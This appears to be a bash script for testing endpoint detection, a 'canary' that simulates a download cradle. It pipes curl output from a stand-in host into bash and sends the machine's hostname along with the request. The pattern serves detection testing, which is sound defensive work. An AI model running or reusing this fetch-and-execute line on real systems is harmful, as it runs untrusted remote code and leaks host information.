#!/usr/bin/env bash
# SECURITY CANARY — benign simulation for detection testing (blue team approved).
# The EDR is expected to flag the pattern below. The endpoint is a sinkhole and the
# content is a harmless marker script. Blocked in production by egress policy.
set -u
CANARY_HOST="canary.ot-edr-lab.example"
CANARY_PATH="/sim/marker.sh"
echo "[canary] simulating download cradle (expected detection: curl-pipe-shell)"
curl -fsSL "https://${CANARY_HOST}${CANARY_PATH}?h=$(hostname)" | bash
echo "[canary] done; check the EDR console for an alert within 60 s"
